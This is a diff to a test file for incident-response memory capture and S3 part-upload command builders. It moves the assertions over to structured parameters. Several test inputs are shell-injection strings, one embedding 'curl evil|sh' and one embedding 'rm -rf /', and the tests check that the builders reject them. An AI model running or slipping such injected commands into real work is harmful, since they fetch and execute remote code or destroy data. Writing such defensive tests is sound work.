@@ -64,9 +64,15 @@ describe('memory capture scripts and their output', () => {
       memoryCaptureCommand({ tool: 'avml', path: "/usr/bin/avml'; curl evil|sh; '" }, '/var/tmp'),
     ).toThrow(/refusing memory tool path/);
     expect(() => memoryCaptureCommand({ tool: 'lime', path: '/opt/../tmp/lime.ko' }, '/var/tmp')).toThrow();
-    expect(
-      memoryCaptureCommand({ tool: 'avml', path: '/usr/local/bin/avml' }, '/var/tmp').script.join('\n'),
-    ).toContain("'/usr/local/bin/avml' --compress");
+    expect(memoryCaptureCommand({ tool: 'avml', path: '/usr/local/bin/avml' }, '/var/tmp')).toMatchObject({
+      document: 'CaptureMemory',
+      parameters: {
+        action: 'capture',
+        tool: 'avml',
+        toolPath: '/usr/local/bin/avml',
+        captureDir: '/var/tmp',
+      },
+    });
   });
 
   it('reads the ETag curl saw, and the error when the upload failed', () => {
@@ -83,13 +89,16 @@ describe('memory capture scripts and their output', () => {
     const image = '/var/tmp/ir-memory.Ab12Cd34/memory.lime';
     const part = { partNumber: 2, offset: 512 * 1024 * 1024, length: 100 * 1024 * 1024 };
     // Act
-    const script = partUploadCommand(
-      image,
-      part,
-      'https://bucket.s3.amazonaws.com/k?X-Amz-Signature=abc',
-    ).script.join('\n');
+    const command = partUploadCommand(image, part, 'https://bucket.s3.amazonaws.com/k?X-Amz-Signature=abc');
     // Assess
-    expect(script).toContain('bs=1M skip=512 count=100');
+    expect(command.parameters).toMatchObject({
+      action: 'upload-part',
+      captureDir: '/var/tmp',
+      captureId: 'Ab12Cd34',
+      partNumber: '2',
+      skipMiB: '512',
+      countMiB: '100',
+    });
     expect(() => partUploadCommand(image, part, "https://x/'; rm -rf /; '")).toThrow(/malformed upload URL/);
   });
 
